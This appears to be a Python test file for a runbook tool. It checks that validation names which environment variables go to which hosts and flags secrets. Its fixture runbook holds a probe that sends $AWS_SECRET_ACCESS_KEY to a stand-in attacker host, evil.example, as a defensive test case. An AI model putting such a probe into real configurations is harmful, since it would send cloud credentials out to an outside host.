"""A runbook reading the environment says which variables go to which host (ux_review12
#6): a probe URL could send any secret of the bastion anywhere, polled without asking,
and `validate` said ok. Not refused: said, in `validate` and in `declare`'s lines."""

from __future__ import annotations

import json
from pathlib import Path

from runbooks import load_runbook
from runbooks.env_reads import destination, env_reads
from tests.cli_helpers import InProcessCli
from tests.test_json_schemas import assert_valid

EXFIL = """\
runbook: exfil
title: One probe too many
notify:
  targets:
    - {name: team, kind: slack, url: "https://hooks.slack.com/services/${SLACK_TOKEN}"}
    - {name: ops, kind: json, url: "${OPS_URL}",
       headers: {Authorization: "Bearer ${OPS_TOKEN}"}}
probes:
  - {name: health, kind: http, url: "http://127.0.0.1:38111/healthz"}
  - name: version
    kind: version
    url: "http://127.0.0.1:38111/v?k=${AWS_SECRET_ACCESS_KEY}&p=${PGPASSWORD:-none}"
    json_field: version
  - {name: again, kind: http, url: "https://Evil.example/x",
     headers: {X-Key: "${AWS_SECRET_ACCESS_KEY}"}}
phases:
  - id: execute
    title: Execute
    steps:
      - {id: redeploy, title: Redeploy}
"""

SAID = (
    "reads $AWS_SECRET_ACCESS_KEY (sent to 127.0.0.1:38111, evil.example), $PGPASSWORD (sent "
    "to 127.0.0.1:38111), $SLACK_TOKEN (sent to hooks.slack.com), $OPS_URL (sent to the host "
    "$OPS_URL names), $OPS_TOKEN (sent to the host $OPS_URL names)"
)

SECRETS = (
    "secrets (refused in typed text, hidden in command output): $AWS_SECRET_ACCESS_KEY (a "
    "URL's query), $PGPASSWORD (a URL's query), $SLACK_TOKEN (its name, unless it holds a "
    "file's path), $OPS_URL (a whole URL: its user-info, query, fragment, token-like webhook "
    "path segments), $OPS_TOKEN (a header)"
)


def test_each_variable_is_named_with_where_it_goes(tmp_path: Path) -> None:
    path = tmp_path / "exfil.yaml"
    path.write_text(EXFIL, encoding="utf-8")
    reads = env_reads(load_runbook(path))
    assert reads["AWS_SECRET_ACCESS_KEY"] == ["127.0.0.1:38111", "evil.example"]
    assert destination("http://admin:${PW}@db.example:8443/x") == "db.example:8443"
    assert destination("${BASE:-https://shop.example}/healthz") == "shop.example"


def test_validate_and_declare_say_it_in_one_line(tmp_path: Path) -> None:
    path = tmp_path / "exfil.yaml"
    path.write_text(EXFIL, encoding="utf-8")
    cli = InProcessCli(tmp_path / "lastgood.db")
    checked = cli.run("validate", str(path))
    assert checked.code == 0, checked.err
    assert checked.out.splitlines()[:3] == [
        f"{path}: ok (runbook 'exfil', 1 phase, 1 step)",
        f"{path}: {SAID}",
        f"{path}: {SECRETS}",
    ]  # then its notes of the guide's phases, tiers and triggers it lacks
    assert all(": note: " in line for line in checked.out.splitlines()[3:])
    as_data = json.loads(cli.ok("validate", "--json", str(path)))
    assert_valid("validate", as_data)
    assert as_data["files"][0]["reads"]["OPS_TOKEN"] == ["the host $OPS_URL names"]
    declared = cli.run(
        "declare", "--title", "t", "--severity", "SEV2", "--commander", "Ada",
        "--runbook", str(path),
    )  # fmt: skip
    assert declared.code == 0, declared.err
    assert f"lastgood declare: the runbook {SAID}\nlastgood declare: {SECRETS}\n" in declared.err


def test_a_runbook_that_reads_nothing_says_nothing(tmp_path: Path) -> None:
    cli = InProcessCli(tmp_path / "lastgood.db")
    checked = cli.run("validate", "runbooks/rollback.yaml")
    assert checked.out.count("\n") == 1 and "reads" not in checked.out
    (entry,) = json.loads(cli.ok("validate", "--json", "runbooks/rollback.yaml"))["files"]
    assert entry["reads"] == entry["secrets"] == entry["not_secrets"] == {}


SCOPED_SAID = (
    "secrets (refused in typed text, hidden in command output): $QUERY_TOK (a URL's query), "
    "$SLACK_PATH (a webhook's URL path: its token-like segments), $OPS_USER (a URL's "
    "user-info), $OPS_PASS (a URL's user-info), $HEADER_TOK (a header); not secrets: "
    "$SERVICE (a URL's host, a probe's URL path), $PORT (a URL's port)"
)


def test_validate_and_declare_say_which_variables_are_secrets_and_why(tmp_path: Path) -> None:
    """The rule's answer (`runbooks.secret_reads`) before an incident: a service's name
    in a probe's host is no secret, so a note may say it; a query's token is one."""
    from tests.test_secret_reads import SCOPED

    path = tmp_path / "scoped.yaml"
    path.write_text(SCOPED, encoding="utf-8")
    cli = InProcessCli(tmp_path / "lastgood.db")
    checked = cli.run("validate", str(path))
    assert checked.code == 0, checked.err
    assert checked.out.splitlines()[2] == f"{path}: {SCOPED_SAID}"
    (entry,) = json.loads(cli.ok("validate", "--json", str(path)))["files"]
    assert entry["secrets"]["QUERY_TOK"] == "a URL's query"
    assert entry["not_secrets"] == {
        "SERVICE": ["a URL's host", "a probe's URL path"],
        "PORT": ["a URL's port"],
    }
    named = SCOPED.replace("${PORT}", "${PORT_AUTH}")
    path.write_text(named, encoding="utf-8")
    (entry,) = json.loads(cli.ok("validate", "--json", str(path)))["files"]
    assert entry["secrets"]["PORT_AUTH"] == "its name, unless it holds a file's path"
    declared = cli.run(
        "declare", "--title", "t", "--severity", "SEV2", "--commander", "Ada",
        "--runbook", str(path),
    )  # fmt: skip
    assert declared.code == 0, declared.err
    assert (
        "$PORT_AUTH (its name, unless it holds a file's path)" in declared.err
        and "not secrets: $SERVICE" in declared.err
    )
